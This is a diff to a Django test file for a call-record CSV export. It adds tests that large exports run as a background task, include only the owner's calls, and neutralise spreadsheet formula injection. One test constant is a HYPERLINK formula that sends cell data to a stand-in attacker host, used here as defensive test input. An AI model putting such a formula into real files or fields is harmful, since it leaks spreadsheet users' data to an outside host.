@@ -6,10 +6,17 @@ from datetime import datetime, timezone
 
 import pytest
 
-from tests.factories import make_cdr, verified_client
-from traffic.exports import neutralise
+from tests.factories import make_cdr, make_cdrs, verified_client
+from traffic.exports import CALL_HEADER, neutralise
+from traffic.models import CallExport
+from traffic.services.call_exports import STREAM_MAX_CALLS
 
 pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def _private_dir(settings, tmp_path):
+    settings.PRIVATE_FILES_DIR = tmp_path
 
 T0 = datetime(2026, 3, 10, 9, 0, tzinfo=timezone.utc)
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -31,6 +38,23 @@ class CallCsvExportTests:
             rows = _rows(response)
             assert rows[0][0] == "started_at" and len(rows) == 2
             assert "+31677777777" not in str(rows) and "'+31612345678" in rows[1]
+
+    @pytest.mark.parametrize("url", ["/calls/export.csv", "/api/v1/me/calls.csv", "/api/v1/me/calls/?format=csv"])
+    def test_a_big_export_goes_through_a_task_and_holds_only_own_calls(self, client, alice, mallory, url,
+                                                                          django_capture_on_commit_callbacks):
+        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1, caller_name=HOSTILE)
+        make_cdrs(account=mallory, n=3, src="+31205550999")
+        make_cdr(account=mallory, src="+31205550999", dst="+31677777777", started_at=T0)
+        verified_client(client, alice)
+        with django_capture_on_commit_callbacks(execute=True):
+            response = client.get(url)
+        assert response.status_code in (202, 302)
+        export = CallExport.objects.get()
+        assert export.owner == alice
+        rows = _rows(client.get(f"/calls/exports/{export.pk}/download/"))
+        assert rows[0] == CALL_HEADER and len(rows) == STREAM_MAX_CALLS + 2
+        assert "+31677777777" not in str(rows) and "+31205550999" not in str(rows)
+        assert {row[rows[0].index("caller_name")] for row in rows[1:]} == {"'" + HOSTILE}
 
     def test_it_neutralises_formula_injection_in_caller_names(self, client, alice):
         make_cdr(account=alice, direction="in", src="+31612345678", dst="+31205550101", started_at=T0,
